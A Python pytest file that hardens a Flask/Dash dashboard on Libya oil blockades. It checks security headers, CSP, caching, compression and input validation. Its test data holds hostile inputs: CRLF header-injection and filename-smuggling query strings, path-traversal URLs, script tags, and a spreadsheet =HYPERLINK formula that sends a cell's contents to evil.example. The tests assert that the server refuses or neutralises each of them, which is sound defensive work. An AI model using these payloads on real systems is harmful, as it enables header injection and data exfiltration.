"""Hostile requests: download names, unknown paths, malformed callbacks, limits, headers, formulas.

Each case is one the issue reproduced on the old server (a header injection, a 500, a leak).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import re
import runpy
import shutil
import sys
import threading
import urllib.request
import zipfile
from collections import OrderedDict
from html.parser import HTMLParser
from pathlib import Path

import brotli
import pandas as pd
import plotly
import pytest
from selenium.webdriver.support.ui import Select, WebDriverWait

from dashboard import security
from dashboard.components import control_prop
from dashboard.context import build_context
from dashboard.data import load_tables
from dashboard.factory import PAGES, PLOTLY, PLOTLY_META, PLOTLY_PATH, create_app
from dashboard.state import valid_control
from tests.dashboard.conftest import outputs_spec
from tests.dashboard.test_browser import ALL_DRAWN, HEADINGS

ROOT = Path(__file__).resolve().parents[2]
ROUTER = ".._pages_content.children..._pages_store.data.."
EPISODES_OUT = (
    "..episodes-table.children...episodes-barrels.figure...episodes-barrels-title.children"
    "...episodes-value.figure...episodes-value-title.children"
    "...episodes-table-download.href...episodes-barrels-download.href"
    "...episodes-value-download.href.."
)
OVERVIEW_DATES = "..overview-start.date...overview-end.date.."


def _router(client, pathname: str, search: object) -> object:
    body = {
        "output": ROUTER,
        "outputs": outputs_spec(ROUTER),
        "inputs": [
            {"id": "_pages_location", "property": "pathname", "value": pathname},
            {"id": "_pages_location", "property": "search", "value": search},
        ],
        "changedPropIds": ["_pages_location.pathname"],
    }
    return client.post("/_dash-update-component", json=body)


def _episodes(model: object, price: object, level: object) -> dict:
    values = {"model": model, "price": price, "level": level}
    return {
        "output": EPISODES_OUT,
        "outputs": outputs_spec(EPISODES_OUT),
        "inputs": [
            {"id": f"episodes-{k}", "property": "value", "value": v} for k, v in values.items()
        ],
        "changedPropIds": ["episodes-level.value"],
    }


@pytest.mark.parametrize(
    "query",
    [
        "price=x%22%3B%20filename*%3DUTF-8%27%27invoice.bat%3B%20x%3D%22",
        "model=%E2%82%AC",
        "model=a%0d%0aX-Evil:%201",
        "model=a%00b",
        "level=95%25",
        "level=nan",
        "episode=1999",
        "episode=2020&episode=2018",
    ],
)
def test_unknown_filter_values_are_refused_without_a_file_name(client, query):
    for table in ("events", "daily_impact"):
        r = client.get(f"/download/{table}.csv?{query}")
        assert r.status_code == 400, (table, query)
        assert "Content-Disposition" not in r.headers
        assert len(r.data) < 100 and b"Traceback" not in r.data


def test_spellings_of_a_level_are_one_selection(client):
    a = client.get("/download/daily_impact.csv?level=0.95")
    b = client.get("/download/daily_impact.csv?level=0.95000&v=2")
    assert a.status_code == b.status_code == 200 and a.data == b.data
    assert b.headers["Content-Disposition"] == 'attachment; filename="daily_impact_0.95.csv"'


def test_filter_on_a_column_the_table_lacks_names_nothing(client, processed):
    r = client.get("/download/events.csv?model=mean")
    assert r.headers["Content-Disposition"] == 'attachment; filename="events.csv"'
    assert r.data == (processed / "events.csv").read_bytes()


@pytest.mark.parametrize(
    "path",
    [
        "/_x",
        "/_",
        "/_/",
        "/_dash-foo",
        "/_dash-update-component",
        "/download/",
        "/_dash-component-suites/dash/../../README.md",
        "/_dash-component-suites/../../pyproject.toml",
        "/_dash-component-suites/dash/nope.js",
    ],
)
def test_unknown_paths_are_404(client, path):
    r = client.get(path)
    assert r.status_code == 404
    assert b"_dash-config" not in r.data and b"Traceback" not in r.data


def test_unknown_page_address_is_404_with_the_shell(client):
    """A page-like address gets the 404 page inside the app's layout, status kept."""
    r = client.get("/models/extra")
    assert r.status_code == 404
    assert b"_dash-config" in r.data and b"Traceback" not in r.data


@pytest.mark.parametrize("_mod,path,_label", PAGES)
def test_any_query_key_opens_every_page(client, _mod, path, _label):
    r = _router(client, path, "?ctx=1&episode=2018&episode=2020&layout=x")
    assert r.status_code == 200
    text = r.get_data(as_text=True)
    assert "Unknown parameter 'ctx' ignored." in text
    assert "'episode' was given more than once" in text


@pytest.mark.parametrize(
    "body",
    [
        b"not json",
        b"[1, 2]",
        b"null",
        b"[" * 50_000 + b"]" * 50_000,
        json.dumps({"output": "nope.children", "inputs": []}).encode(),
        json.dumps({"output": ROUTER, "outputs": [], "inputs": []}).encode(),
        json.dumps({"output": ROUTER, "outputs": outputs_spec(ROUTER), "inputs": {}}).encode(),
        json.dumps(
            {"output": ROUTER, "outputs": outputs_spec(ROUTER), "inputs": [{"id": "x"}]}
        ).encode(),
    ],
    ids=["text", "list", "null", "deep", "unknown", "outputs", "inputs-dict", "no-property"],
)
def test_malformed_callback_bodies_are_400(client, body):
    r = client.post("/_dash-update-component", data=body, content_type="application/json")
    assert r.status_code == 400


@pytest.mark.parametrize(
    "values",
    [
        ("mean", "brent", "0.95x"),  # float('0.95x') in the old episodes table
        ("mean", "brent", ["0.95"]),
        (["mean"], "brent", "0.95"),
        ({"a": 1}, "brent", "0.95"),
        ("mean", "brent", True),
        ("mean", "nope", "0.95"),
    ],
)
def test_wrong_control_values_are_400(client, values):
    r = client.post("/_dash-update-component", json=_episodes(*values))
    assert r.status_code == 400
    assert b"Invalid value for episodes-" in r.data


def test_a_level_number_or_text_is_accepted(client):
    for level in ("0.95", 0.95, "0.950"):
        r = client.post("/_dash-update-component", json=_episodes("mean", "brent", level))
        assert r.status_code in (200, 204), level  # 204: a spelling with no precomputed view


@pytest.mark.parametrize(
    "pathname,search",
    [({"a": 1}, ""), (["/"], ""), ("models", ""), ("/", ["?x=1"]), (None, "")],
)
def test_router_location_must_be_text(client, pathname, search):
    assert _router(client, pathname, search).status_code == 400


def test_dates_must_be_iso(client):
    body = {
        "output": OVERVIEW_DATES,
        "outputs": outputs_spec(OVERVIEW_DATES),
        "inputs": [{"id": "overview-episode", "property": "value", "value": "2018"}],
        "changedPropIds": ["overview-episode.value"],
    }
    assert client.post("/_dash-update-component", json=body).status_code == 200
    sync = '..{"page":"overview","type":"page-query"}.data...overview-input-notes.children..'
    fields = ("episode", "model", "price", "level", "start", "end", "events")
    values = ["2020", "mean", "brent", "0.95", "18/01/2020", "2020-09-18", ["blockade"]]
    body = {
        "output": sync,
        "outputs": outputs_spec(sync),
        "inputs": [
            {"id": f"overview-{f}", "property": control_prop(f), "value": v}
            for f, v in zip(fields, values, strict=True)
        ],
        "state": [{"id": {"page": "overview", "type": "page-query"}, "property": "data"}],
        "changedPropIds": ["overview-start.date"],
    }
    body["state"][0]["value"] = "?episode=2020"
    r = client.post("/_dash-update-component", json=body)
    assert r.status_code == 400 and b"overview-start.date" in r.data
    body["inputs"][4]["value"] = "2020-01-18"
    assert client.post("/_dash-update-component", json=body).status_code == 200


def test_body_over_the_limit_is_413(client):
    big = json.dumps({"output": ROUTER, "pad": "x" * 300_000})
    r = client.post("/_dash-update-component", data=big, content_type="application/json")
    assert r.status_code == 413


class _Scripts(HTMLParser):
    """Inline <script> bodies of a page, found by an HTML parser (not the server's regex)."""

    def __init__(self) -> None:
        super().__init__()
        self.inline: list[str] = []
        self._open = False

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self._open = tag == "script" and "src" not in dict(attrs)
        if self._open:
            self.inline.append("")

    def handle_endtag(self, tag: str) -> None:
        self._open = False

    def handle_data(self, data: str) -> None:
        if self._open:
            self.inline[-1] += data


def _directives(csp: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}


def test_security_headers_on_every_kind_of_response(client):
    responses = {
        "page": client.get("/"),
        "download": client.get("/download/events.csv"),
        "404": client.get("/nope"),
        "asset": client.get("/assets/app.css"),
        "callback 400": client.post("/_dash-update-component", json=[1]),
    }
    for kind, r in responses.items():
        assert r.headers["X-Content-Type-Options"] == "nosniff", kind
        assert r.headers["X-Frame-Options"] == "DENY", kind
        assert r.headers["Referrer-Policy"] == "strict-origin-when-cross-origin", kind
        csp = _directives(r.headers["Content-Security-Policy"])
        assert csp["frame-ancestors"] == ["'none'"] and csp["object-src"] == ["'none'"], kind
        assert "'unsafe-inline'" not in csp["script-src"], kind
        r.close()  # a static file is streamed from an open file


def test_csp_allows_exactly_the_inline_scripts_of_the_page(client):
    r = client.get("/")
    assert sys.version not in r.get_data(as_text=True)  # no Python build in the page
    parser = _Scripts()
    parser.feed(r.get_data(as_text=True))
    assert len(parser.inline) >= 2  # Dash's config and its renderer at least
    wanted = {
        "'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'"
        for s in parser.inline
    }
    allowed = _directives(r.headers["Content-Security-Policy"])["script-src"]
    assert set(allowed) == {"'self'"} | wanted


def test_responses_are_compressed_when_the_client_accepts_it(client):
    plain = client.get("/download/daily_impact.csv")
    br = client.get("/download/daily_impact.csv", headers={"Accept-Encoding": "br"})
    gz = client.get("/", headers={"Accept-Encoding": "gzip"})
    assert br.headers["Content-Encoding"] == "br" and len(br.data) < len(plain.data) / 4
    assert brotli.decompress(br.data) == plain.data
    assert gz.headers["Content-Encoding"] == "gzip"
    assert b'<script id="_dash-config"' in gzip.decompress(gz.data)
    assert "Accept-Encoding" in br.headers["Vary"]


def test_fingerprinted_files_are_cacheable_for_a_year(client):
    page = client.get("/").get_data(as_text=True)
    script = page.split('<script src="')[1].split('"')[0]
    assert ".v" in script  # Dash's fingerprint: name.v<version>m<mtime>.js
    for url in (script, "/assets/app.css?m=1"):
        with client.get(url) as r:
            assert r.status_code == 200
            assert r.cache_control.max_age == 365 * 24 * 3600 and r.cache_control.immutable, url
    with client.get("/assets/app.css") as r:
        assert not r.cache_control.immutable


def test_downloads_carry_etags_and_answer_304(client, processed):
    listed = {
        o["file"]: o["sha256"]
        for o in json.loads((processed / "manifest.json").read_text())["outputs"]
    }
    whole = client.get("/download/episodes.csv")
    assert whole.headers["ETag"] == f'"{listed["episodes.csv"]}"'
    assert whole.cache_control.public and whole.cache_control.max_age > 0
    again = client.get("/download/episodes.csv", headers={"If-None-Match": whole.headers["ETag"]})
    assert again.status_code == 304 and again.data == b""
    part = client.get("/download/daily_impact.csv?episode=2018&model=mean&price=brent&level=0.8")
    assert part.headers["ETag"] == f'"{hashlib.sha256(part.data).hexdigest()}"'
    zipped = client.get("/download/all.zip")
    assert zipped.headers["ETag"] == f'"{hashlib.sha256(zipped.data).hexdigest()}"'
    tag = client.get("/download/events.csv", headers={"Accept-Encoding": "br"}).headers["ETag"]
    cached = client.get(
        "/download/events.csv", headers={"Accept-Encoding": "br", "If-None-Match": tag}
    )
    assert cached.status_code == 304


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "description": "@SUM(1+1)",
}


@pytest.fixture(scope="module")
def hostile_client(processed, tmp_path_factory):
    """The app on tables whose text cells hold formulas, as a hand edit could leave them."""
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(processed, folder, dirs_exist_ok=True)
    path = folder / "events.csv"
    events = pd.read_csv(path, dtype=str, keep_default_na=False)
    for column, value in HOSTILE.items():
        events.loc[0, column] = value
    events.loc[1, "title"] = "-1 plus"
    events.loc[2, "title"] = "\ttab"
    events.to_csv(path, index=False, lineterminator="\n")
    daily = pd.read_csv(folder / "daily_impact.csv", dtype=str, keep_default_na=False)
    daily.loc[0, "lost_bpd"] = "-400000.0"  # a negative number: not text, never touched
    daily.to_csv(folder / "daily_impact.csv", index=False, lineterminator="\n")
    return create_app(build_context(load_tables(folder))).server.test_client(), folder


def test_formula_cells_are_neutralised_in_downloads(hostile_client):
    hostile_client, _ = hostile_client
    body = hostile_client.get("/download/events.csv").data
    zipped = zipfile.ZipFile(io.BytesIO(hostile_client.get("/download/all.zip").data))
    for served in (body, zipped.read("events.csv")):
        got = pd.read_csv(io.BytesIO(served), dtype=str, keep_default_na=False)
        for column, value in HOSTILE.items():
            assert got.loc[0, column] == "'" + value
        assert got.loc[1, "title"] == "'-1 plus"
        assert got.loc[2, "title"] == "'\ttab"
        assert (
            not got[["title", "description"]]
            .apply(lambda s: s.str.match(r"[=+\-@\t\r]"))
            .any(axis=None)
        )


def test_numbers_stay_numbers(hostile_client):
    hostile_client, folder = hostile_client
    r = hostile_client.get("/download/daily_impact.csv")
    assert r.data == (folder / "daily_impact.csv").read_bytes()
    assert b",-400000.0," in r.data
    part = hostile_client.get("/download/daily_impact.csv?episode=2018&model=mean&level=0.8")
    assert b",-400000.0," in part.data


def test_gunicorn_config(monkeypatch):
    import gunicorn.http.wsgi

    monkeypatch.setattr(gunicorn.http.wsgi, "SERVER", gunicorn.http.wsgi.SERVER)
    monkeypatch.setattr(gunicorn.http.wsgi, "SERVER_SOFTWARE", gunicorn.http.wsgi.SERVER_SOFTWARE)
    conf = runpy.run_path(str(ROOT / "gunicorn.conf.py"))
    assert conf["worker_class"] == "gthread" and conf["threads"] >= 4
    assert conf["timeout"] <= 30 and conf["control_socket_disable"] is True
    assert conf["limit_request_line"] <= 8190 and conf["limit_request_fields"] <= 100
    for name in ("SERVER", "SERVER_SOFTWARE"):
        assert "gunicorn" not in getattr(gunicorn.http.wsgi, name)


@pytest.mark.browser
def test_every_page_runs_under_the_csp(dash_duo, app):
    """Real Chromium: each page, its charts and a callback work with no CSP violation logged."""
    dash_duo.start_server(app)
    with urllib.request.urlopen(dash_duo.server_url + "/") as r:
        assert "'sha256-" in _directives(r.headers["Content-Security-Policy"])["script-src"][1]
    for _, path, _ in PAGES:
        dash_duo.driver.get(dash_duo.server_url + path)
        dash_duo.wait_for_text_to_equal("#main h1", HEADINGS[path], timeout=10)
        if path == "/":
            WebDriverWait(dash_duo.driver, 15).until(
                lambda d: d.execute_script(ALL_DRAWN), "charts never drawn"
            )
            Select(dash_duo.find_element("#overview-episode")).select_by_value("2018")
            dash_duo.wait_for_text_to_equal("#kpi-days", "28 days")
    assert dash_duo.get_logs() == []


def test_fixed_bodies_are_compressed_once(client, monkeypatch):
    import flask_compress.flask_compress as fc

    calls: list[str] = []
    compress = fc._compress_data

    def counted(app: object, data: bytes, algorithm: str) -> bytes:
        calls.append(algorithm)
        return compress(app, data, algorithm)

    monkeypatch.setattr(fc, "_compress_data", counted)
    monkeypatch.setattr(security._CompressedCache, "items", OrderedDict())  # empty, for this test
    monkeypatch.setattr(security._CompressedCache, "size", 0)
    page = client.get("/").get_data(as_text=True)
    script = page.split('<script src="')[1].split('"')[0]
    br = {"Accept-Encoding": "br"}
    for url in (script, script, "/download/prices.csv?v=1", "/download/prices.csv?v=2"):
        assert client.get(url, headers=br).headers["Content-Encoding"] == "br"
    assert calls == ["br", "br"]  # once for the component file, once for the table
    client.get("/_dash-layout", headers=br)
    client.get("/_dash-layout", headers=br)
    assert len(calls) == 4  # a dynamic response is compressed every time


@pytest.mark.parametrize(
    "field,value,ok",
    [
        ("episode", "2018", True),
        ("episode", None, True),  # a cleared control
        ("episode", "1999", False),
        ("episode", ["2018"], False),
        ("model", "mean", True),
        ("model", {"a": 1}, False),
        ("price", "brent_less_es_sider_diff", True),
        ("price", 1, False),
        ("level", "0.8", True),
        ("level", 0.8, True),
        ("level", "0.80", True),
        ("level", "0.5", False),
        ("level", "0.95x", False),
        ("level", True, False),
        ("level", [0.8], False),
        ("start", "2020-01-18", True),
        ("start", "2020-02-30", False),
        ("start", 20200118, False),
        ("events", ["ceasefire", "restart"], True),
        ("events", [], True),
        ("events", ["ceasefire", "nope"], False),
        ("events", "ceasefire", False),
        ("events", [["ceasefire"]], False),
    ],
)
def test_valid_control(ctx, field, value, ok):
    assert valid_control(field, value, ctx.opts) is ok


def test_label_patch_accepts_the_browsers_duplicate_output(client, app):
    """The date range's label Patch shares `overview-base.data` with the selection callback
    (allow_duplicate): the browser names it "data@<hash>", and only that output is accepted."""
    output = next(k for k in app.callback_map if k.startswith("overview-base.data@"))
    body = {
        "output": output,
        "outputs": {"id": "overview-base", "property": output.split(".", 1)[1]},
        "inputs": [
            {"id": "overview-start", "property": "date", "value": "2020-03-01"},
            {"id": "overview-end", "property": "date", "value": "2020-12-31"},
        ],
        "state": [{"id": "overview-episode", "property": "value", "value": "2020"}],
        "changedPropIds": ["overview-start.date"],
    }
    r = client.post("/_dash-update-component", json=body)
    assert r.status_code == 200
    patch = json.loads(r.data)["response"]["overview-base"]["data"]
    assert {tuple(op["location"]) for op in patch["operations"]} == {
        ("production", "layout", "shapes"),
        ("production", "layout", "annotations"),
        ("production", "layout", "margin", "t"),
    }
    body["outputs"] = {"id": "overview-base", "property": "children@x"}
    assert client.post("/_dash-update-component", json=body).status_code == 400
    body["outputs"] = {"id": "overview-kpis", "property": output.split(".", 1)[1]}
    assert client.post("/_dash-update-component", json=body).status_code == 400


def test_chart_pages_load_the_vendored_plotly_bundle_compressed_and_cached(client):
    """The basic bundle is served from a hashed address, compressed and kept a year; only
    pages with charts ask for it."""
    page = client.get("/").get_data(as_text=True)
    # one copy: preloaded, added by the page's loader, and no plotly.js among Dash's scripts
    assert page.count(PLOTLY_PATH) == 2 and f'script.src = "{PLOTLY_PATH}";' in page
    assert f'<link rel="preload" as="script" href="{PLOTLY_PATH}">' in page
    assert not [src for src in re.findall(r'<script src="([^"]+)"', page) if "plotly" in src]
    plain = client.get(PLOTLY_PATH)
    assert plain.data == PLOTLY.read_bytes()
    assert plain.cache_control.max_age == 365 * 24 * 3600 and plain.cache_control.immutable
    br = client.get(PLOTLY_PATH, headers={"Accept-Encoding": "br"})
    assert br.headers["Content-Encoding"] == "br" and len(br.data) < len(plain.data) / 3
    assert PLOTLY_PATH not in client.get("/claims").get_data(as_text=True)
    # "/models/" is served as /models: the same loader, not Dash's full copy later
    assert f'script.src = "{PLOTLY_PATH}";' in client.get("/models/").get_data(as_text=True)


def test_pages_leave_out_unused_scripts_and_preload_the_dcc_parts_they_mount(client):
    """No page loads dash_table or Babel's polyfill; `/` preloads plotly.js and dcc's graph part
    (not the date pickers', which would be drawn in the graph's first pass and hold it up), and
    a page without charts preloads nothing."""
    for _, path, _ in PAGES:
        scripts = re.findall(r'<script src="([^"]+)"', client.get(path).text)
        assert any("react-dom" in src for src in scripts)
        assert not [src for src in scripts if "dash_table" in src or "polyfill" in src]
    preloads = re.findall(r'<link rel="preload" as="script" href="([^"]+)">', client.get("/").text)
    assert [p.rsplit("/", 1)[1] for p in preloads] == [
        PLOTLY_PATH.rsplit("/", 1)[1],
        "async-graph.js",
    ]
    assert all(client.get(p).status_code == 200 for p in preloads)
    assert "preload" not in client.get("/claims").text


def _container(client, page: str | None, **headers: str) -> tuple[dict, object]:
    """The props of the served layout's page container parts, by id, for a request in which
    the page names itself `page` (assets/page.js), and the response."""
    headers = {**headers, **({"X-Dash-Page": page} if page else {})}
    response = client.get("/_dash-layout", headers=headers)
    found = {}

    def walk(node: object) -> None:
        if isinstance(node, dict):
            if str(node.get("props", {}).get("id", "")).startswith("_pages_"):
                found[node["props"]["id"]] = node["props"]
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(response.get_json())
    return found, response


def test_layout_holds_the_page_it_is_requested_from(client):
    """With the page's own address in X-Dash-Page the layout carries the page, for that query,
    with the location set to it (the router then does not run); otherwise the container is
    empty and the router fills it. The Referer is not used (browsers may cut it to the origin).
    The layout varies with the header, and says so to caches."""
    parts, response = _container(client, "/models?episode=2018&level=0.8")
    location = parts["_pages_location"]
    assert location["pathname"] == "/models" and location["search"] == "?episode=2018&level=0.8"
    assert '"models-episode"' in response.text and '"value":"2018"' in response.text
    assert parts["_pages_store"]["data"] == {
        "title": "Models · Libya oil blockades: what they cost"
    }
    assert "X-Dash-Page" in response.headers["Vary"]
    for page in (None, "http://localhost/models", "/nope"):
        parts, response = _container(client, page)
        assert "pathname" not in parts["_pages_location"]
        assert parts["_pages_content"].get("children") is None
        assert '"models-episode"' not in response.text
    parts, _ = _container(client, None, Referer="http://localhost/")
    assert "pathname" not in parts["_pages_location"]
    parts, _ = _container(client, "/")
    assert parts["_pages_location"]["pathname"] == "/"
    assert parts["_pages_location"]["search"] == ""
    assert "overview-production" in json.dumps(parts["_pages_content"])


def test_a_fresh_app_serves_its_scripts_to_concurrent_first_requests(ctx, client):
    """A browser asks for every script of a page at once, and a fresh gunicorn worker answers in
    parallel threads: none of those first requests may find Dash's scripts unregistered (Dash
    sets itself up on its first request; 4-9 of 13 such requests got 404 before the app did it
    at creation). Three fresh apps, each hit first by all the scripts together."""
    page = client.get("/").text
    scripts = re.findall(r'<script src="([^"]+)"', page)
    scripts += re.findall(r'rel="preload" as="script" href="([^"]+)"', page)
    assert len(scripts) >= 10 and any("react-dom" in s for s in scripts)
    for _ in range(3):
        fresh = create_app(ctx).server
        start = threading.Barrier(len(scripts))
        codes: dict[str, int] = {}

        def fetch(url: str, app=fresh, start=start, codes=codes) -> None:
            own = app.test_client()
            start.wait()
            response = own.get(url)
            codes[url] = response.status_code
            response.close()  # /assets/ files are streamed

        threads = [threading.Thread(target=fetch, args=(url,)) for url in scripts]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
        assert codes == dict.fromkeys(scripts, 200)


def test_a_fresh_app_still_takes_dash_s_dev_tools(ctx):
    """`python -m dashboard --debug` adds Dash's dev tools to the app it created: the set-up at
    creation must leave Flask open to new error handlers (a warm-up request closed it, and
    --debug crashed at start)."""
    app = create_app(ctx)
    app.enable_dev_tools(debug=True, dev_tools_hot_reload=False)
    assert app.server.test_client().get("/").status_code == 200


def test_vendored_plotly_is_the_recorded_file_and_dash_s_version():
    """The bundle matches its recorded sha256, and its version is the one of the full
    plotly.js that the installed plotly package (and so dcc.Graph) was built with."""
    assert hashlib.sha256(PLOTLY.read_bytes()).hexdigest() == PLOTLY_META["sha256"]
    full = Path(plotly.__file__).parent / "package_data" / "plotly.min.js"
    header = full.read_text(encoding="utf-8")[:200]
    assert f"plotly.js v{PLOTLY_META['version']}" in header
    assert f"v{PLOTLY_META['version']}" in PLOTLY.read_text(encoding="utf-8")[:200]


def test_a_hostile_page_header_gets_the_empty_container_or_a_checked_page(client):
    """X-Dash-Page is request input: a malformed value, one naming no page exactly, or one with a
    hostile query never gives a 5xx; the container is empty unless the path is a page's own."""
    for page in ("http://[abc/", "/[abc", "//models", "/models/", "/models/x", "/%6dodels"):
        parts, response = _container(client, page)
        assert response.status_code == 200, page
        assert "pathname" not in parts["_pages_location"], page
        assert parts["_pages_content"].get("children") is None, page
    parts, response = _container(client, "/models?episode=%3Cscript%3E&level=9&model=%3D1%2B1")
    assert response.status_code == 200
    # the page's own checks ran: defaults in the controls, the reader told in plain text
    assert "is not available; showing the default" in response.text
    assert '"value":"2020"' in response.text and '"value":"<script>"' not in response.text
